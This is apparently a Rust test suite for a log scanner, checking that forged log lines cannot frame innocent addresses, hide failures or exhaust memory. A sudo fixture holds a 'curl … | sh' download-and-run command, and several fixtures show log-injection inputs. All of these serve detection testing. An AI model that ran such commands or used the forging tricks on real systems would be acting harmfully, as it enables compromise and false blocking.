//! Attacks on logscan by the clients and local users whose text it reads
//! (issue 15): no framing an innocent address, no hiding, bounded memory.

use std::path::Path;
use std::process::{Command, Output};

fn run(args: &[&str], files: &[&Path]) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_logscan"));
    c.env("TZ", "UTC").args(args).args(files);
    c.output().unwrap()
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// The `ip` of every offender record in a `--json` run.
fn offender_ips(o: &Output) -> Vec<String> {
    stdout(o)
        .lines()
        .filter(|l| l.starts_with(r#"{"type":"offender""#))
        .map(|l| {
            let at = l.find(r#""ip":""#).unwrap() + 6;
            l[at..at + l[at..].find('"').unwrap()].to_string()
        })
        .collect()
}

fn write(dir: &Path, name: &str, lines: &[String]) -> std::path::PathBuf {
    let p = dir.join(name);
    let mut text = lines.join("\n");
    text.push('\n');
    std::fs::write(&p, text).unwrap();
    p
}

/// Item 1: a request field carrying a fake `client:` tail never moves the
/// blame; the address is taken from nginx's fixed position.
#[test]
fn nginx_fake_client_tail_frames_no_one() {
    let dir = tempfile::tempdir().unwrap();
    let fake = r#", client: 10.1.0.10, server: example.org, request: "GET /admin HTTP/1.1", host: "example.org""#;
    let lines: Vec<String> = (1..=5)
        .map(|i| {
            format!(
                r#"2026/12/04 10:0{i}:00 [error] 12#12: *{i} user "bob": password mismatch, client: 10.66.0.66, server: example.org, request: "GET /admin HTTP/1.1", host: "example.org", referrer: "x"{fake}"#
            )
        })
        .collect();
    let log = write(dir.path(), "error.log", &lines);
    let out = run(&["offenders", "--json", "--maxretry", "3"], &[&log]);
    assert_eq!(offender_ips(&out), ["10.66.0.66"], "{}", stdout(&out));

    // The same through a missing-file probe: the path (from the URI) and
    // the referrer both can carry a tail, so the line blames no one.
    let lines: Vec<String> = (1..=5)
        .map(|i| {
            format!(
                r#"2026/12/04 10:0{i}:00 [error] 12#12: *{i} open() "/var/www/phpmyadmin" failed (2: No such file or directory), client: 10.1.0.10, server: example.org, request: "GET /phpmyadmin HTTP/1.1", host: "example.org"" failed (2: No such file or directory), client: 10.66.0.66, server: example.org, request: "GET /phpmyadmin%22%20failed HTTP/1.1", host: "example.org""#
            )
        })
        .collect();
    let log = write(dir.path(), "error.log", &lines);
    let out = run(&["offenders", "--json", "--maxretry", "3"], &[&log]);
    assert!(!stdout(&out).contains("10.1.0.10"), "{}", stdout(&out));
}

/// Item 5: a host name (sshd with UseDNS) is never an offender (fwplan's
/// side, skipping a bad entry, is in fwplan/tests/cli.rs).
#[test]
fn host_names_are_never_offenders_and_fwplan_keeps_the_rest() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines = vec![];
    for i in 0..5 {
        lines.push(format!("Dec  4 10:00:0{i} h sshd[1{i}]: Failed password for root from mail.example.org port 2 ssh2"));
        lines.push(format!("Dec  4 10:00:0{i} h sshd[2{i}]: Failed password for root from 203.0.113.45 port 2 ssh2"));
    }
    let log = write(dir.path(), "auth.log", &lines);
    let out = run(&["offenders", "--json", "--maxretry", "3"], &[&log]);
    assert_eq!(offender_ips(&out), ["203.0.113.45"], "{}", stdout(&out));
}

/// Item 6: a line cut at 64 KiB yields no address from its cut tail.
#[test]
fn a_cut_line_yields_no_address_from_its_tail() {
    let dir = tempfile::tempdir().unwrap();
    let pad = "x".repeat(64 * 1024 - 120);
    let lines: Vec<String> = (0..5)
        .map(|i| {
            let head =
                format!("Dec  4 10:00:0{i} h sshd[3{i}]: Failed password for invalid user {pad}");
            let cut = 64 * 1024 - head.len();
            let tail = " from 10.1.0.10 port 22 ssh2";
            // The fake tail ends exactly at the cut; sshd's own ` from ADDR
            // port N ssh2` (the real client) is past it.
            let fill = "y".repeat(cut - tail.len());
            format!("{head}{fill}{tail} from 10.66.0.66 port 4242 ssh2")
        })
        .collect();
    let log = write(dir.path(), "auth.log", &lines);
    let out = run(&["offenders", "--json", "--maxretry", "3"], &[&log]);
    assert!(!stdout(&out).contains("10.1.0.10"), "{}", stdout(&out));
    let out = run(&["--json"], &[&log]);
    assert!(!stdout(&out).contains("10.1.0.10"), "{}", stdout(&out));
    assert!(String::from_utf8_lossy(&out.stderr).contains("longer than 65536"));
}

/// Item 4: an unprivileged user's journal entries (`logger -t sshd`, or a
/// copy of logger named sshd: `_COMM=sshd`) are never read as sshd's.
#[test]
fn a_local_user_cannot_forge_sshd_in_the_journal() {
    let dir = tempfile::tempdir().unwrap();
    let entry = |t: u64, uid: &str, msg: &str| {
        format!(
            r#"{{"__REALTIME_TIMESTAMP":"{t}000000","_HOSTNAME":"srv","_UID":"{uid}","_GID":"{uid}","_COMM":"sshd","_EXE":"/home/mallory/sshd","SYSLOG_IDENTIFIER":"sshd","_PID":"4242","_SYSTEMD_UNIT":"session-3.scope","MESSAGE":"{msg}"}}"#
        )
    };
    let mut lines: Vec<String> = (0..6)
        .map(|i| {
            entry(
                1764842400 + i,
                "1000",
                "Failed password for alice from 10.1.0.10 port 2 ssh2",
            )
        })
        .collect();
    lines.push(entry(
        1764842410,
        "1000",
        "Accepted password for alice from 10.1.0.10 port 2 ssh2",
    ));
    let log = write(dir.path(), "journal.json", &lines);
    let out = run(&["summary", "--json"], &[&log]);
    assert!(!stdout(&out).contains("10.1.0.10"), "{}", stdout(&out));
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    let out = run(&["offenders", "--json", "--maxretry", "3"], &[&log]);
    assert!(offender_ips(&out).is_empty(), "{}", stdout(&out));
    // The same entries sent by root (sshd) count.
    let lines: Vec<String> = lines
        .iter()
        .map(|l| l.replace(r#""_UID":"1000""#, r#""_UID":"0""#))
        .collect();
    let log = write(dir.path(), "journal.json", &lines);
    let out = run(&["offenders", "--json", "--maxretry", "3"], &[&log]);
    assert_eq!(offender_ips(&out), ["10.1.0.10"], "{}", stdout(&out));
}

/// Item 2: a `"` inside the request URI does not hide an nginx auth failure.
#[test]
fn a_quote_in_the_uri_hides_no_auth_failure() {
    let dir = tempfile::tempdir().unwrap();
    let lines: Vec<String> = (1..=5)
        .map(|i| {
            format!(
                r#"2026/12/04 10:0{i}:00 [error] 12#12: *{i} user "bob": password mismatch, client: 10.66.0.66, server: example.org, request: "GET /admin/"x HTTP/1.1", host: "example.org""#
            )
        })
        .collect();
    let log = write(dir.path(), "error.log", &lines);
    let out = run(&["offenders", "--json", "--maxretry", "3"], &[&log]);
    assert_eq!(offender_ips(&out), ["10.66.0.66"], "{}", stdout(&out));
}

/// Item 3: NUL bytes in a client's text never make logscan skip a log, in
/// batch or --follow.
#[test]
fn nul_bytes_never_make_a_log_skipped() {
    let dir = tempfile::tempdir().unwrap();
    // The first line after rotation: a Basic-auth user name of NULs.
    let nuls = "\0".repeat(300);
    let mut lines = vec![format!(
        r#"2026/12/04 10:00:00 [error] 12#12: *1 user "{nuls}": password mismatch, client: 10.66.0.66, server: example.org, request: "GET /admin HTTP/1.1", host: "example.org""#
    )];
    for i in 1..=4 {
        lines.push(format!(
            r#"2026/12/04 10:0{i}:00 [error] 12#12: *{i} user "bob": password mismatch, client: 10.66.0.66, server: example.org, request: "GET /admin HTTP/1.1", host: "example.org""#
        ));
    }
    let log = write(dir.path(), "error.log", &lines);
    let out = run(&["offenders", "--json", "--maxretry", "5"], &[&log]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(offender_ips(&out), ["10.66.0.66"], "{}", stdout(&out));

    // 100 NULs in the first 8 KiB of an auth log (sshd logs the user name).
    let mut lines = vec![format!(
        "Dec  4 10:00:00 h sshd[1]: Invalid user {} from 10.66.0.66 port 2",
        "\0".repeat(100)
    )];
    for i in 1..=4 {
        lines.push(format!(
            "Dec  4 10:00:0{i} h sshd[1{i}]: Failed password for root from 10.66.0.66 port 2 ssh2"
        ));
    }
    let log = write(dir.path(), "auth.log", &lines);
    let out = run(&["offenders", "--json", "--maxretry", "5"], &[&log]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(offender_ips(&out), ["10.66.0.66"], "{}", stdout(&out));
}

/// Item 9: a root shell and a download-and-run through sudo are findings.
#[test]
fn sudo_shells_and_download_and_run_are_findings() {
    let dir = tempfile::tempdir().unwrap();
    let lines = [
        "Dec  4 10:00:00 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/sh -c curl http://203.0.113.45/x.sh | sh".to_string(),
        "Dec  4 10:01:00 h sudo:    bob : TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash".to_string(),
        "Dec  4 10:02:00 h sudo:    carol : TTY=pts/2 ; PWD=/home/carol ; USER=root ; COMMAND=/usr/bin/apt install curl".to_string(),
    ];
    let log = write(dir.path(), "auth.log", &lines);
    let out = run(&["summary", "--json"], &[&log]);
    let text = stdout(&out);
    let ids: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with(r#"{"type":"finding""#))
        .map(|l| {
            let at = l.find(r#""id":""#).unwrap() + 6;
            &l[at..at + l[at..].find('"').unwrap()]
        })
        .collect();
    assert_eq!(
        ids,
        ["logscan/sudo-download-exec", "logscan/sudo-shell"],
        "{text}"
    );
    assert!(
        !text
            .lines()
            .any(|l| l.contains(r#""type":"finding""#) && l.contains("carol")),
        "{text}"
    );
    assert_eq!(out.status.code(), Some(1));
}

/// Item 7: coverage seen in real data (crowdsec hub, Wazuh, Elastic tests).
#[test]
fn lockouts_chkpwd_read_errors_pam_summaries_and_bsd_su_are_read() {
    let dir = tempfile::tempdir().unwrap();
    let lines: Vec<String> = [
        "Dec  4 10:00:01 h sshd(pam_unix)[2345]: 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.7  user=root",
        "Dec  4 10:00:03 h sshd[2347]: Read error from remote host 198.51.100.8 port 41234: Connection reset by peer",
        "Dec  4 10:00:04 h sshd[2348]: pam_faillock(sshd:auth): Consecutive login failures for user root account temporarily locked",
        "Dec  4 10:00:05 h sshd[2349]: pam_tally2(sshd:auth): user root (0) tally 4, deny 3",
        "Dec  4 10:00:06 h unix_chkpwd[2350]: password check failed for user (root)",
        "Dec  4 10:00:07 h su: BAD SU alice to root on /dev/ttyp1",
        "Dec  4 10:00:08 h su: [ID 366847 auth.warning] 'su root' failed for alice on /dev/pts/2",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let log = write(dir.path(), "auth.log", &lines);
    let out = run(&["--json", "--mode", "aggressive"], &[&log]);
    let kinds: Vec<String> = stdout(&out)
        .lines()
        .filter(|l| l.starts_with(r#"{"type":"event""#))
        .map(|l| {
            let at = l.find(r#""kind":""#).unwrap() + 8;
            l[at..at + l[at..].find('"').unwrap()].to_string()
        })
        .collect();
    assert_eq!(
        kinds,
        [
            "pam_more_failures",
            "protocol_error",
            "pam_lockout",
            "pam_lockout",
            "pam_auth_failure",
            "su_failure",
            "su_failure"
        ],
        "{}",
        stdout(&out)
    );
    assert!(stdout(&out).contains(r#""ip":"198.51.100.8""#));
}

/// Peak RSS in KiB of the largest child this process has waited for.
fn children_max_rss_kib() -> i64 {
    let mut u: libc::rusage = unsafe { std::mem::zeroed() };
    // SAFETY: getrusage fills the struct it is given.
    assert_eq!(unsafe { libc::getrusage(libc::RUSAGE_CHILDREN, &mut u) }, 0);
    u.ru_maxrss
}

/// Item 8: distinct sources cost bounded memory, and every count stays
/// exact. 200,000 IPv6 sources (a fifth of the 1,000,000 that must stay
/// under 128 MB; scripts/bench-logscan measures that one) must stay under a
/// fifth of it plus the program's own 8 MB; they took 51 MB before.
/// (A child's peak RSS includes this process's peak at its exec, so the
/// log is streamed to disk and the outputs go to files, read afterwards.)
#[test]
fn distinct_sources_cost_bounded_memory_and_stay_exact() {
    use std::io::{BufRead, Write};
    let dir = tempfile::tempdir().unwrap();
    let n = 200_000u32;
    let log = dir.path().join("auth.log");
    let mut f = std::io::BufWriter::new(std::fs::File::create(&log).unwrap());
    for i in 0..n {
        writeln!(
            f,
            "Dec  4 10:{:02}:{:02} h sshd[{}]: Failed password for root from 2001:db8:{:x}:{:x}::1 port 22 ssh2",
            (i / 60) % 60,
            i % 60,
            1000 + i % 30000,
            i >> 16,
            i & 0xffff
        )
        .unwrap();
    }
    // 2001:db8:1:2::1 (i = 65538) three more times: four failures, exactly.
    for s in 0..3 {
        writeln!(f, "Dec  4 11:00:0{s} h sshd[9]: Failed password for root from 2001:db8:1:2::1 port 22 ssh2").unwrap();
    }
    drop(f);
    let runs = [
        &["summary", "--json"][..],
        &["offenders", "--json", "--maxretry", "3"],
    ];
    for (k, args) in runs.iter().enumerate() {
        let out = std::fs::File::create(dir.path().join(format!("out{k}"))).unwrap();
        let st = Command::new(env!("CARGO_BIN_EXE_logscan"))
            .env("TZ", "UTC")
            .args(*args)
            .arg(&log)
            .stdout(out)
            .status()
            .unwrap();
        assert!(st.success(), "{args:?}");
    }
    let kib = children_max_rss_kib();
    for (k, args) in runs.iter().enumerate() {
        let out = std::fs::File::open(dir.path().join(format!("out{k}"))).unwrap();
        let line = std::io::BufReader::new(out)
            .lines()
            .map(Result::unwrap)
            .find(|l| l.contains(r#""ip":"2001:db8:1:2::1""#))
            .unwrap_or_else(|| panic!("{args:?}: no record of 2001:db8:1:2::1"));
        assert!(line.contains(r#""failures":4"#), "{args:?}: {line}");
    }
    assert!(kib < (128 * 1024) / 5 + 8 * 1024, "peak RSS {kib} KiB");
}

/// Reverse DNS belongs to whoever owns the addresses: with sshd's
/// `UseDNS yes`, each of an attacker's addresses can log as a new 240-byte
/// host name. 200,000 of them must cost no more than 200,000 addresses
/// (summary peaked at 127 MiB before the names were bounded, 11 MiB after,
/// debug build); the names past
/// the bound are counted together, and nothing is lost from the total.
#[test]
fn distinct_host_names_cost_bounded_memory() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let n = 200_000u32;
    let long = "a".repeat(230);
    let log = dir.path().join("auth.log");
    let mut f = std::io::BufWriter::new(std::fs::File::create(&log).unwrap());
    for i in 0..n {
        writeln!(
            f,
            "Dec  4 10:{:02}:{:02} h sshd[{}]: Failed password for root from h{i}.{long}.example port 22 ssh2",
            (i / 60) % 60,
            i % 60,
            1000 + i % 30000,
        )
        .unwrap();
    }
    drop(f);
    let out_path = dir.path().join("out");
    let st = Command::new(env!("CARGO_BIN_EXE_logscan"))
        .env("TZ", "UTC")
        .args(["summary", "--json"])
        .arg(&log)
        .stdout(std::fs::File::create(&out_path).unwrap())
        .status()
        .unwrap();
    assert!(st.success());
    let kib = children_max_rss_kib();
    let text = std::fs::read_to_string(&out_path).unwrap();
    let other = text
        .lines()
        .find(|l| l.contains(r#""ip":"(other host names)""#))
        .unwrap_or_else(|| panic!("no aggregate of the names past the bound"));
    let kept = text.matches(&format!(".{long}.example\"")).count();
    assert!(kept <= 4096, "{kept} names kept one by one");
    assert!(
        other.contains(&format!(r#""failures":{}"#, n as usize - 4096)),
        "{other}"
    );
    assert!(kib < (128 * 1024) / 5 + 8 * 1024, "peak RSS {kib} KiB");
}
